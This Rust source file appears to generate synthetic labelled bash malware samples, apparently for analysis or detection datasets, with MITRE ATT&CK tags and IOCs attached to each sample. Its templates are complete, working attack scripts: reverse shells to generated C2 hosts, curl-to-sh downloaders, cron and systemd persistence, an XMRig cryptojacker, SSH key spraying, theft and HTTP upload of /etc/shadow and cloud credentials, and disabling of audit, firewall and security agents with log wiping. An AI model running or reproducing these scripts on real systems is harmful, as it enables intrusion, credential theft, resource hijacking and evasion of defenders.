//! Bash: attacker tooling families.

use rand::Rng;

use super::bash_common::{header, helpers, logger};
use super::names::{self, fill, pick, R};
use super::{Draft, Family};

pub(crate) const FAMILIES: &[Family] = &[
    Family {
        name: "reverse-shell",
        description: "A reverse shell that hands an interactive shell to a remote operator",
        gen: reverse_shell,
    },
    Family {
        name: "download-execute",
        description: "A downloader that fetches a second-stage binary and executes it",
        gen: download_execute,
    },
    Family {
        name: "cron-persistence",
        description: "A persistence implant that installs cron jobs to relaunch a payload",
        gen: cron_persistence,
    },
    Family {
        name: "systemd-persistence",
        description: "A persistence implant that registers a disguised systemd service",
        gen: systemd_persistence,
    },
    Family {
        name: "coin-miner",
        description: "A cryptocurrency miner installer that hijacks the host's CPU",
        gen: coin_miner,
    },
    Family {
        name: "ssh-lateral-movement",
        description: "A lateral movement tool that sprays stolen SSH keys across known hosts",
        gen: ssh_spray,
    },
    Family {
        name: "credential-theft",
        description: "A credential stealer that collects secrets and uploads them",
        gen: cred_theft,
    },
    Family {
        name: "security-tool-tampering",
        description:
            "A defence evasion script that disables logging, firewalls and security agents",
        gen: tamper,
    },
];

fn reverse_shell(r: &mut R) -> Draft {
    let host = names::c2_host(r);
    let port = names::c2_port(r);
    let v = r.random_range(0..4);
    let fifo = format!("/tmp/.{}", names::token(r, 4));
    let (cmd, how) = match v {
        0 => (format!("bash -i >& /dev/tcp/{host}/{port} 0>&1"), format!("redirects an interactive bash -i session through /dev/tcp/{host}/{port}")),
        1 => (format!("rm -f {fifo}; mkfifo {fifo}; cat {fifo} | /bin/sh -i 2>&1 | nc {host} {port} > {fifo}"), format!("builds a named pipe at {fifo} and wires /bin/sh -i to nc {host} {port} through it")),
        2 => (format!("nc -e /bin/sh {host} {port}"), format!("uses nc -e /bin/sh to hand a shell to {host} on port {port}")),
        _ => (format!("python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"{host}\",{port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])'"), format!("runs a python3 -c one-liner that connects a socket to {host}:{port}, duplicates it onto stdin, stdout and stderr and spawns /bin/sh -i")),
    };
    if r.random_bool(0.35) {
        return Draft {
            content: format!("#!/bin/bash\n{cmd}\n"),
            purpose: format!("opens a reverse shell to {host} on TCP port {port}"),
            steps: vec![how],
            effects: vec![format!("Whoever listens on {host}:{port} gets a command prompt with the privileges of the user who ran it.")],
            behaviours: vec!["Creates a reverse shell (T1059.004)".into(), names::port_behaviour(port)],
            iocs: vec![host, port.to_string()],
        };
    }
    let delay = r.random_range(30..600);
    let title = pick(
        r,
        &["system maintenance helper", "network check", "update agent"],
    );
    let mut c = header(r, title, false);
    c.push_str(&fill(
        r#"H="@HOST@"
P=@PORT@

already_running() {
    pgrep -f "$H" >/dev/null 2>&1
}

connect() {
    @CMD@
}

if already_running; then exit 0; fi
while true; do
    connect 2>/dev/null
    sleep @DELAY@
done &
disown
"#,
        &[
            ("HOST", &host),
            ("PORT", &port.to_string()),
            ("CMD", &cmd),
            ("DELAY", &delay.to_string()),
        ],
    ));
    Draft {
        content: c,
        purpose: format!("keeps a reverse shell to {host} on TCP port {port} alive in the background"),
        steps: vec![
            format!("checks with pgrep -f whether a connection to {host} already exists and exits if so"),
            how,
            format!("retries the connection every {delay} seconds inside a backgrounded while loop"),
            "detaches the loop from the terminal with disown so it survives logout of the session".into(),
        ],
        effects: vec![format!("The host becomes remotely controllable from {host}:{port} for as long as the loop keeps running.")],
        behaviours: vec!["Creates a reverse shell (T1059.004)".into(), names::port_behaviour(port)],
        iocs: vec![host, port.to_string(), "disown".into()],
    }
}

fn download_execute(r: &mut R) -> Draft {
    let host = names::c2_host(r);
    let path = names::url_path(r);
    let dir = names::linux_drop_dir(r);
    let bin = names::stealth_name(r);
    let url = format!("http://{host}{path}");
    let dest = format!("{dir}/.{bin}");
    let title = pick(r, &["installer", "bootstrap", "updater"]);
    let mut c = header(r, title, false);
    c.push_str(&fill(
        r#"URL="@URL@"
OUT="@DEST@"
ARCH=$(uname -m)

fetch() {
    if command -v curl >/dev/null 2>&1; then
        curl -fsSLk "$1" -o "$2"
    elif command -v wget >/dev/null 2>&1; then
        wget -q --no-check-certificate "$1" -O "$2"
    else
        exec 3<>/dev/tcp/@HOST@/80
        printf 'GET @PATH@ HTTP/1.0\r\nHost: @HOST@\r\n\r\n' >&3
        sed '1,/^\r$/d' <&3 > "$2"
    fi
}

fetch "$URL.$ARCH" "$OUT"
chmod +x "$OUT"
nohup "$OUT" >/dev/null 2>&1 &
sleep 2
rm -f "$OUT"
history -c 2>/dev/null
"#,
        &[
            ("URL", &url),
            ("DEST", &dest),
            ("HOST", &host),
            ("PATH", &path),
        ],
    ));
    Draft {
        content: c,
        purpose: format!("downloads an architecture-specific binary from {host} and runs it from {dir}"),
        steps: vec![
            "reads the CPU architecture with uname -m to pick the matching payload".into(),
            format!("downloads {url}.ARCH with curl -fsSLk, falling back to wget --no-check-certificate or a raw HTTP request over /dev/tcp"),
            format!("writes the file to the hidden path {dest} and marks it executable with chmod +x"),
            "starts it with nohup in the background, deletes the file two seconds later and clears the shell history".into(),
        ],
        effects: vec![format!("An unknown binary from {host} runs with the current user's rights and leaves no file on disk.")],
        behaviours: vec![
            "Downloads a remote payload (T1105)".into(),
            "Executes a downloaded binary (T1059.004)".into(),
            "Deletes its payload and history to remove evidence (T1070.004, T1070.003)".into(),
        ],
        iocs: vec![url, dest],
    }
}

fn cron_persistence(r: &mut R) -> Draft {
    let host = names::c2_host(r);
    let url = format!("http://{host}{}", names::url_path(r));
    let name = names::stealth_name(r);
    let mins = pick(r, &["*/5", "*/10", "*/15", "*/30", "0"]);
    let mut c = header(r, "ensure scheduled maintenance", false);
    c.push_str(&fill(
        r#"JOB='@MINS@ * * * * (curl -fsSL @URL@ || wget -q -O- @URL@) | sh >/dev/null 2>&1'

(crontab -l 2>/dev/null | grep -v '@URL@'; echo "$JOB") | crontab -

if [ -w /etc/cron.d ]; then
    echo "$JOB" | sed 's/^\(\S* \S* \S* \S* \S*\)/\1 root/' > /etc/cron.d/@NAME@
    chmod 644 /etc/cron.d/@NAME@
fi

touch -r /etc/hostname /etc/cron.d/@NAME@ 2>/dev/null
"#,
        &[("MINS", mins), ("URL", &url), ("NAME", name)],
    ));
    Draft {
        content: c,
        purpose: format!("installs cron jobs that repeatedly download and run a shell script from {host}"),
        steps: vec![
            format!("builds a cron line with schedule {mins} * * * * that pipes curl -fsSL or wget output from {url} into sh"),
            "merges the line into the user's crontab with crontab -l and crontab -, removing older copies first".into(),
            format!("writes a root copy to /etc/cron.d/{name} when that directory is writable"),
            "copies the timestamps of /etc/hostname onto the new file with touch -r to blend in".into(),
        ],
        effects: vec![format!("From then on the machine fetches and runs whatever {host} serves on every schedule tick, surviving reboots.")],
        behaviours: vec![
            "Persists via cron (T1053.003)".into(),
            "Downloads and runs remote scripts (T1105)".into(),
            "Timestomps its files (T1070.006)".into(),
        ],
        iocs: vec![url, format!("/etc/cron.d/{name}")],
    }
}

fn systemd_persistence(r: &mut R) -> Draft {
    let name = names::stealth_name(r);
    let dir = names::linux_drop_dir(r);
    let host = names::c2_host(r);
    let port = names::c2_port(r);
    let bin = format!("{dir}/.{name}");
    let mut c = header(r, "service setup", false);
    c.push_str(&fill(
        r#"BIN="@BIN@"
cp "$0" "$BIN" 2>/dev/null || true
cat > "$BIN" <<'EOF'
#!/bin/bash
while :; do bash -c 'exec 5<>/dev/tcp/@HOST@/@PORT@; cat <&5 | while read l; do $l 2>&5 >&5; done'; sleep 60; done
EOF
chmod 755 "$BIN"

cat > /etc/systemd/system/@NAME@.service <<EOF
[Unit]
Description=@NAME@ system helper
After=network-online.target

[Service]
Type=simple
ExecStart=$BIN
Restart=always
RestartSec=30

[Install]
WantedBy=multi-user.target
EOF

systemctl daemon-reload
systemctl enable --now @NAME@.service >/dev/null 2>&1
"#,
        &[("BIN", &bin), ("HOST", &host), ("PORT", &port.to_string()), ("NAME", name)],
    ));
    Draft {
        content: c,
        purpose: format!("registers a systemd service named {name}.service that keeps a command channel to {host} open"),
        steps: vec![
            format!("writes a looping helper to {bin} that reads commands from /dev/tcp/{host}/{port} and returns their output"),
            format!("creates the unit file /etc/systemd/system/{name}.service with Restart=always and WantedBy=multi-user.target"),
            format!("reloads systemd and runs systemctl enable --now {name}.service"),
        ],
        effects: vec![format!("The channel to {host}:{port} comes back on every boot and restarts within 30 seconds if killed.")],
        behaviours: vec![
            "Persists as a systemd service (T1543.002)".into(),
            "Masquerades as a system component (T1036.005)".into(),
            "Executes remote commands over a raw TCP channel (T1059.004)".into(),
        ],
        iocs: vec![format!("/etc/systemd/system/{name}.service"), host, bin],
    }
}

fn coin_miner(r: &mut R) -> Draft {
    let pool = format!(
        "{}.{}:{}",
        pick(r, &["pool", "xmr", "mine", "stratum"]),
        names::c2_domain(r),
        pick(r, &[3333, 4444, 5555, 7777, 14444])
    );
    let wallet = names::wallet(r);
    let host = names::c2_host(r);
    let dir = names::linux_drop_dir(r);
    let name = names::stealth_name(r);
    let threads = r.random_range(50..100);
    let (lg, l) = logger(r);
    let mut c = header(r, "perf tuning", false);
    c.push_str(&lg);
    c.push_str(&fill(
        r#"POOL="@POOL@"
WALLET="@WALLET@"
WD="@DIR@/.@NAME@"

kill_competitors() {
    for p in xmrig kdevtmpfsi kinsing minerd cryptonight; do
        pkill -9 -f "$p" 2>/dev/null
    done
    @L@ "cleared"
}

install_miner() {
    mkdir -p "$WD" && cd "$WD"
    curl -fsSLk "http://@HOST@/x.tar.gz" -o x.tar.gz || wget -q "http://@HOST@/x.tar.gz"
    tar xzf x.tar.gz && rm -f x.tar.gz
    mv xmrig @NAME@
    chmod +x @NAME@
}

kill_competitors
[ -x "$WD/@NAME@" ] || install_miner
echo 128 > /proc/sys/vm/nr_hugepages 2>/dev/null
nohup "$WD/@NAME@" -o "$POOL" -u "$WALLET" -p x --cpu-max-threads-hint=@THREADS@ --donate-level=0 -B >/dev/null 2>&1 &
(crontab -l 2>/dev/null; echo "@reboot $WD/@NAME@ -o $POOL -u $WALLET -B") | crontab -
"#,
        &[("POOL", &pool), ("WALLET", &wallet), ("DIR", dir), ("NAME", name), ("HOST", &host), ("L", l), ("THREADS", &threads.to_string())],
    ));
    Draft {
        content: c,
        purpose: format!("installs an XMRig Monero miner disguised as {name} and points it at the pool {pool}"),
        steps: vec![
            "kills competing miners such as xmrig, kinsing and kdevtmpfsi with pkill -9 -f".into(),
            format!("downloads x.tar.gz from http://{host}/ into {dir}/.{name} and renames the xmrig binary to {name}"),
            "raises vm.nr_hugepages to 128 for faster hashing".into(),
            format!("starts the miner with nohup against {pool}, a hard-coded wallet and --cpu-max-threads-hint={threads}"),
            "adds an @reboot crontab entry so mining resumes after restarts".into(),
        ],
        effects: vec!["The machine's CPU is spent on Monero hashing for the wallet owner, degrading every other workload.".into()],
        behaviours: vec![
            "Runs a cryptocurrency miner (T1496)".into(),
            "Persists via cron @reboot (T1053.003)".into(),
            "Downloads a payload (T1105)".into(),
        ],
        iocs: vec![pool, format!("http://{host}/x.tar.gz"), "--donate-level=0".into()],
    }
}

fn ssh_spray(r: &mut R) -> Draft {
    let host = names::c2_host(r);
    let url = format!("http://{host}{}", names::url_path(r));
    let mut c = header(r, "sync keys", false);
    c.push_str(&helpers(r, 1));
    c.push_str(&fill(
        r#"KEYS=$(find / -name 'id_rsa' -o -name 'id_ed25519' -o -name '*.pem' 2>/dev/null | grep -v '\.pub$')
USERS=$(cut -d: -f1 /etc/passwd | sort -u; echo root)
TARGETS=$(cat ~/.ssh/known_hosts /root/.ssh/known_hosts /home/*/.ssh/known_hosts 2>/dev/null | awk '{print $1}' | tr ',' '\n' | grep -v '^\[' | sort -u)
TARGETS="$TARGETS $(grep -hE '^\s*HostName' ~/.ssh/config 2>/dev/null | awk '{print $2}')"

for key in $KEYS; do
    chmod 600 "$key" 2>/dev/null
    for user in $USERS; do
        for target in $TARGETS; do
            ssh -oStrictHostKeyChecking=no -oBatchMode=yes -oConnectTimeout=5 -i "$key" "$user@$target" \
                "(curl -fsSL @URL@ || wget -q -O- @URL@) | sh" </dev/null >/dev/null 2>&1 &
        done
    done
done
wait
"#,
        &[("URL", &url)],
    ));
    Draft {
        content: c,
        purpose: format!("spreads to other machines by trying every private SSH key it finds against every known host and then running a script from {host}"),
        steps: vec![
            "searches the whole file system with find for id_rsa, id_ed25519 and .pem private keys".into(),
            "collects user names from /etc/passwd and target hosts from known_hosts files and ~/.ssh/config".into(),
            "tries each key, user and host combination with ssh -oStrictHostKeyChecking=no -oBatchMode=yes in parallel".into(),
            format!("runs curl -fsSL {url} piped into sh on every host that accepts a key"),
        ],
        effects: vec!["Any server that trusts a key stored on this machine is compromised in turn with the same downloaded script.".into()],
        behaviours: vec![
            "Searches for private keys (T1552.004)".into(),
            "Moves laterally over SSH (T1021.004)".into(),
            "Discovers remote systems from known_hosts (T1018)".into(),
        ],
        iocs: vec![url, "-oStrictHostKeyChecking=no".into()],
    }
}

fn cred_theft(r: &mut R) -> Draft {
    let host = names::c2_host(r);
    let port = pick(r, &[80, 443, 8080, 8000]);
    let out = format!("/tmp/.{}.tgz", names::token(r, 6));
    let mut c = header(r, "diagnostics collector", false);
    c.push_str(&fill(
        r#"OUT="@OUT@"
STAGE=$(mktemp -d)

collect() {
    cp /etc/shadow /etc/passwd "$STAGE/" 2>/dev/null
    cp -r ~/.aws ~/.ssh ~/.kube ~/.docker/config.json "$STAGE/" 2>/dev/null
    cat ~/.bash_history /root/.bash_history > "$STAGE/history.txt" 2>/dev/null
    env | grep -iE 'token|secret|passw|key' > "$STAGE/env.txt"
    grep -rhoE 'AKIA[0-9A-Z]{16}' /home /var/www 2>/dev/null | sort -u > "$STAGE/aws_keys.txt"
    find / -name '.git-credentials' -o -name '.netrc' -o -name 'wp-config.php' 2>/dev/null | xargs -r cp -t "$STAGE/"
}

collect
tar czf "$OUT" -C "$STAGE" .
curl -s -X POST -F "host=$(hostname)" -F "f=@$OUT" http://@HOST@:@PORT@/upload
rm -rf "$STAGE" "$OUT"
"#,
        &[("OUT", &out), ("HOST", &host), ("PORT", &port.to_string())],
    ));
    Draft {
        content: c,
        purpose: format!("collects password hashes, cloud keys and tokens from the host and uploads them to {host}"),
        steps: vec![
            "copies /etc/shadow and /etc/passwd plus the ~/.aws, ~/.ssh, ~/.kube and Docker config directories into a temporary folder".into(),
            "saves shell histories and every environment variable whose name mentions a token, secret, password or key".into(),
            "greps /home and /var/www for AKIA access key ids and gathers .git-credentials, .netrc and wp-config.php files".into(),
            format!("packs everything into {out} and sends it with curl -F to http://{host}:{port}/upload"),
            "removes the staging folder and the archive".into(),
        ],
        effects: vec!["Password hashes, SSH keys and cloud credentials leave the machine, enabling further access to other systems.".into()],
        behaviours: vec![
            "Steals credentials from files (T1552.001)".into(),
            "Dumps /etc/shadow (T1003.008)".into(),
            "Exfiltrates data over HTTP (T1041)".into(),
        ],
        iocs: vec![format!("http://{host}:{port}/upload"), "/etc/shadow".into(), out],
    }
}

fn tamper(r: &mut R) -> Draft {
    let host = names::c2_host(r);
    let mut c = header(r, "optimize", false);
    c.push_str(&fill(
        r#"systemctl stop auditd rsyslog 2>/dev/null; systemctl disable auditd 2>/dev/null
service auditd stop 2>/dev/null
auditctl -e 0 2>/dev/null
setenforce 0 2>/dev/null
sed -i 's/^SELINUX=enforcing/SELINUX=disabled/' /etc/selinux/config 2>/dev/null
ufw disable 2>/dev/null
iptables -P INPUT ACCEPT; iptables -P OUTPUT ACCEPT; iptables -F
for svc in falcon-sensor aliyun-service cloudmonitor osqueryd wazuh-agent; do
    systemctl stop "$svc" 2>/dev/null
    systemctl mask "$svc" 2>/dev/null
done
rm -rf /var/log/audit/* /var/log/secure* /var/log/auth.log*
echo > /var/log/wtmp; echo > /var/log/lastlog
unset HISTFILE; export HISTSIZE=0
chattr +i /etc/resolv.conf 2>/dev/null
echo "nameserver @HOST@" > /etc/resolv.conf.bak
"#,
        &[("HOST", &host)],
    ));
    Draft {
        content: c,
        purpose: "switches off auditing, SELinux, the firewall and several endpoint security agents and wipes the authentication logs".into(),
        steps: vec![
            "stops and disables auditd and rsyslog and turns kernel auditing off with auditctl -e 0".into(),
            "sets SELinux to permissive with setenforce 0 and to disabled in /etc/selinux/config".into(),
            "runs ufw disable and flushes iptables after setting the INPUT and OUTPUT policies to ACCEPT".into(),
            "stops and masks falcon-sensor, osqueryd, wazuh-agent and cloud monitoring services".into(),
            "deletes /var/log/audit, /var/log/secure and /var/log/auth.log, empties wtmp and lastlog and disables shell history".into(),
        ],
        effects: vec!["Afterwards the host has no firewall, no audit trail and no running security agents, hiding later activity.".into()],
        behaviours: vec![
            "Disables security tools (T1562.001)".into(),
            "Disables the firewall (T1562.004)".into(),
            "Clears logs (T1070.002)".into(),
        ],
        iocs: vec!["auditctl -e 0".into(), "setenforce 0".into(), "iptables -F".into()],
    }
}
